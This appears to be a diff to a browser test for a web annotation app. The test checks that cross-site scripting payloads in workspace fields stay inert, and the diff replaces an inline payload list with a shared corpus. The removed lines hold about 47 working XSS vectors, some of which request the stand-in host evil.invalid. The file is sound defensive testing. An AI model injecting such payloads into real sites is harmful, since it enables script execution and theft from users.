@@ -5,8 +5,9 @@ the workspace shows: the document text and title, the project name, a label's
 description, the guidelines, attribute names and choices, spans and an
 attribution over payloads, a suggestion, a reviewer's note. The page is then
 used (hover, click, label by mouse and key, help). No payload may open a
-dialog, run code (each one would call xssHit() or set window.__xss) or make a
-request anywhere but the app's own pages, static files and API.
+dialog, run code (each one would call __xss()) or make a request anywhere but
+the app's own pages, static files and API. The payloads are the shared corpus of
+tests/e2e/xss_corpus.py.
 """
 from __future__ import annotations
 
@@ -25,59 +26,14 @@ from annotator.services.suggestions import (SuggestedAttribution, SuggestedSpan,
                                             suggestions_store)
 
 from .conftest import login, mouse_select, open_workspace, text_of, wait_saved
+from .xss_corpus import payloads
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 
-EVIL = "http://evil.invalid"
-PAYLOADS = [
-    "<script>xssHit('script')</script>",
-    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
-    "<script>alert('alert')</script>",
-    "<img src=x onerror=xssHit('img')>",
-    '<img src="http://evil.invalid/pixel.png">',
-    "<IMG SRC=JaVaScRiPt:xssHit('img-js')>",
-    "<svg onload=xssHit('svg')>",
-    "<svg><script>xssHit('svg-script')</script></svg>",
-    "<body onload=xssHit('body')>",
-    "<iframe srcdoc=\"<script>parent.xssHit('srcdoc')</script>\"></iframe>",
-    "<iframe src=\"javascript:parent.xssHit('iframe-js')\"></iframe>",
-    "<a href=\"javascript:xssHit('link')\">click me</a>",
-    "<a href=\"jav&#x09;ascript:xssHit('entity-link')\">click me too</a>",
-    "<div style=\"background:url(javascript:xssHit('css-url'))\">css</div>",
-    "<div style=\"width: expression(xssHit('expression'))\">expression</div>",
-    "<style>@import 'http://evil.invalid/x.css'; body{background:url(http://evil.invalid/b.png)}</style>",
-    "<link rel=stylesheet href=http://evil.invalid/x.css>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:xssHit('meta')\">",
-    "<object data=\"javascript:xssHit('object')\"></object>",
-    "<embed src=\"javascript:xssHit('embed')\">",
-    "<input autofocus onfocus=xssHit('autofocus')>",
-    "<details open ontoggle=xssHit('details')>",
-    "<video><source onerror=xssHit('video')></video>",
-    "<audio src=x onerror=xssHit('audio')>",
-    "<marquee onstart=xssHit('marquee')>marquee</marquee>",
-    "<template><img src=x onerror=xssHit('template')></template>",
-    "</textarea><script>xssHit('textarea')</script>",
-    "</script><script>xssHit('close-script')</script>",
-    "</title><script>xssHit('title')</script>",
-    "<!--<img src=\"--><img src=x onerror=xssHit('comment')//\">",
-    "\\u003cscript\\u003exssHit('unicode-escaped')\\u003c/script\\u003e",
-    "\\x3cimg src=x onerror=xssHit('hex-escaped')\\x3e",
-    "＜script＞xssHit('fullwidth')＜/script＞",
-    "&lt;script&gt;xssHit('entities')&lt;/script&gt;",
-    "{{constructor.constructor('xssHit(\"angular\")')()}}",
-    "${xssHit('template-literal')}",
-    "<form action=\"javascript:xssHit('form')\"><button>go</button></form>",
-    '<base href="http://evil.invalid/">',
-    "<math><mtext><table><mglyph><style><img src=x onerror=xssHit('mxss')>",
-    "<noscript><p title=\"</noscript><img src=x onerror=xssHit('noscript')>\">",
-    "javascript:xssHit('bare-url')",
-    "data:text/html,<script>xssHit('data-url')</script>",
-    "\"><script>xssHit('attribute-break')</script>",
-    "' onmouseover='xssHit(\"attribute-quote\")' x='",
-    "<span onmouseover=\"window.__xss=1\">hover me</span>",
-    "[markdown link](javascript:xssHit('markdown'))",
-    "**<img src=x onerror=xssHit('markdown-bold')>**",
-]
+# The shared corpus (tests/e2e/xss_corpus.py): each payload, if it ran, would call
+# __xss(N), open a dialog or request http://xss.invalid/N. test_xss_corpus.py puts it in
+# every field of every page; this test puts it in the workspace and uses the page hard.
+PAYLOADS = [payload.text for payload in payloads()]
 
 TEXT = "Officials said the deal is dead.\n\n" + "\n\n".join(
     f"Payload {n}: {payload} said the source {n}." for n, payload in enumerate(PAYLOADS))
@@ -127,7 +83,7 @@ def test_payloads_stay_inert_text_when_rendered_and_used(page, context, live_ser
                       attributions=[SuggestedAttribution(claims=["a"], source="b")])
 
     hits, dialogs, foreign = [], [], []
-    context.expose_function("xssHit", lambda tag: hits.append(tag))
+    context.expose_function("__xss", lambda *args: hits.append(args[0] if args else None))
     page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
     origin = live_server.url
     page.on("request", lambda request: None if allowed(request.url, origin)
@@ -171,7 +127,7 @@ def test_payloads_stay_inert_text_when_rendered_and_used(page, context, live_ser
 
     # Nothing ran, nothing was asked, nothing went out.
     assert hits == [] and dialogs == [] and foreign == [], (hits, dialogs, foreign)
-    assert page.evaluate("() => window.__xss") is None
+    assert page.evaluate("() => ({}).xss") is None  # nothing polluted Object.prototype
     assert not page.js_errors
     report = page.evaluate("""() => ({
         handlers: [...document.querySelectorAll('*')].flatMap((e) =>
@@ -190,7 +146,7 @@ def test_payloads_stay_inert_text_when_rendered_and_used(page, context, live_ser
     assert config["guidelines"] == project.guidelines
 
     # The traps work: a call, a dialog and a foreign request would have been seen.
-    page.evaluate("""() => { xssHit('control'); alert('control');
+    page.evaluate("""() => { __xss('control'); alert('control');
         new Image().src = 'http://evil.invalid/control.png'; }""")
     page.wait_for_timeout(200)
     assert hits == ["control"] and dialogs == ["control"]
